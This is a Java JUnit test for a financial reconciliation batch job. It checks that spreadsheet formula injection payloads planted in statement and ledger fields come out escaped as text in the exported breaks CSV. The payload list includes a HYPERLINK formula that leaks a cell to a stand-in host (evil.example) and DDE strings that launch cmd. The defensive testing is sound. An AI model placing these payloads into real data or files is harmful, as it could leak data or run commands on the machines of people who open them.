package dev.flowlet.batch.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.flowlet.batch.BatchJobsTest;
import dev.flowlet.batch.JobsClient;
import dev.flowlet.batch.Ledger;
import dev.flowlet.batch.Tokens;
import dev.flowlet.batch.imports.ImportFolder;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Formulas planted in every free-text column that reaches the reconciliation breaks report: in the
 * bank's statement (reference, counterparty, and a bad date that ends up in a reason) and in the
 * ledger (a counterparty name a customer chose). The CSV an operator opens in a spreadsheet holds
 * them neutralised, as text, and every break is still there.
 */
@BatchJobsTest
class CsvFormulaInjectionAttackTest {

  private static final LocalDate DAY = LocalDate.of(2026, 4, 1);
  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1");

  private final JobsClient jobs;
  private final Ledger ledger;
  private final ImportFolder imports;

  CsvFormulaInjectionAttackTest(
      @LocalServerPort int port, JdbcClient jdbc, JdbcTemplate jdbcTemplate, ImportFolder imports) {
    this.jobs = new JobsClient(port);
    this.ledger = new Ledger(jdbc, jdbcTemplate);
    this.imports = imports;
  }

  @Test
  void theBreaksReportNeutralisesEveryFormulaAStatementOrTheLedgerPlanted() throws IOException {
    UUID account = ledger.account("Formula Victim");
    for (String formula : FORMULAS) {
      ledger.record(account, "CARD_PAYMENT", "9.99", DAY.plusDays(2), formula, null);
    }
    StringBuilder statement =
        new StringBuilder(
            "statement_ref,value_date,amount,currency,counterparty,transaction_id,description\r\n");
    int line = 0;
    for (String formula : FORMULAS) {
      line++;
      statement
          .append(quoted(formula))
          .append(",2026-04-0")
          .append(1 + line % 5)
          .append(",-1")
          .append(line)
          .append(".00,EUR,")
          .append(quoted(formula))
          .append(",,")
          .append(quoted(formula))
          .append("\r\n");
    }
    statement.append("R-bad,").append(quoted("=1+1")).append(",-5.00,EUR,Bad date,,x\r\n");
    statement.append("R-cur,2026-04-02,-6.00,").append(quoted("=A1")).append(",Shop,,x\r\n");
    statement.append("R-id,2026-04-02,-7.00,EUR,Shop,").append(quoted("=1+1")).append(",x\r\n");
    Path file = imports.root().resolve("statements").resolve(UUID.randomUUID() + ".csv");
    Files.createDirectories(file.getParent());
    Files.writeString(file, statement, StandardCharsets.UTF_8);
    String operator = Tokens.of("OPERATOR");

    long executionId =
        jobs.started(
            operator,
            "reconciliationJob",
            Map.of("file", file.toString(), "accountId", account.toString()));
    assertThat(jobs.finished(operator, executionId).get("status").asString())
        .isEqualTo("COMPLETED");
    JobsClient.Response breaks =
        jobs.get(Tokens.of("AUDITOR"), "/api/v1/jobs/executions/" + executionId + "/breaks");

    assertThat(breaks.status()).isEqualTo(200);
    SpreadsheetSafeCsv.assertSpreadsheetSafe(breaks.body());
    List<String[]> rows = SpreadsheetSafeCsv.rows(breaks.body());
    List<String> cells = rows.stream().flatMap(Arrays::stream).toList();
    // Every planted formula is still in the report, as text: as the ledger holds it in the ledger
    // counterparty, and (stripped of surrounding blanks, as the statement parser reads cells) in
    // the statement reference and counterparty of its missing-in-ledger line.
    for (String formula : FORMULAS) {
      assertThat(cells).as(formula).contains("'" + formula);
      assertThat(cells.stream().filter(cell -> cell.equals("'" + formula.strip())).count())
          .as(formula.strip())
          .isGreaterThanOrEqualTo(2);
    }
    assertThat(rows).hasSize(1 + FORMULAS.size() * 2 + 3);
  }

  private static String quoted(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }
}
